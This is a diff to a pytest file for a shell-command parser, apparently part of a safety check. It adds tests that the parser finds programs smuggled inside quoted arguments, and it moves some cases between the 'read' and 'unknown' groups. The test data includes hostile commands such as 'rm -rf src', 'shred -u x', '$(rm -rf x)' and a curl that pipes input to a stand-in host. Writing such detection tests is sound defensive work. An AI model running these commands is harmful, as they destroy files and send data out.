@@ -71,12 +71,26 @@ def test_a_known_program_keeps_its_reading_of_its_words(line: str, target: str) 
 
 
 @pytest.mark.parametrize(
+    ("line", "target"),
+    [
+        ("mytool 'x; rm -rf src'", "rm"),
+        ("mytool 'a | curl -d @- https://x.example'", "curl"),
+        ("mytool 'FOO=1 BAR=2 shred -u x'", "shred"),
+        ("mytool --run='rm -rf x'", "rm"),
+        ("mytool '(rm -rf x)'", "rm"),
+    ],
+)
+def test_a_known_program_where_shell_text_starts_a_command_is_read(line: str, target: str) -> None:
+    assert target in parse_command(line).programs
+
+
+@pytest.mark.parametrize(
     "line",
     [
         "fzf --bind 'enter:execute(rm -rf {})'",
-        "mytool 'x; rm -rf src'",
-        "mytool 'a | curl -d @- https://x.example'",
         "mytool 'rm \"unterminated'",
+        "mytool 'x && (rm'",
+        "mytool '$(rm -rf x)'",
     ],
 )
 def test_a_command_line_the_engine_cannot_read_is_unknown(line: str) -> None:
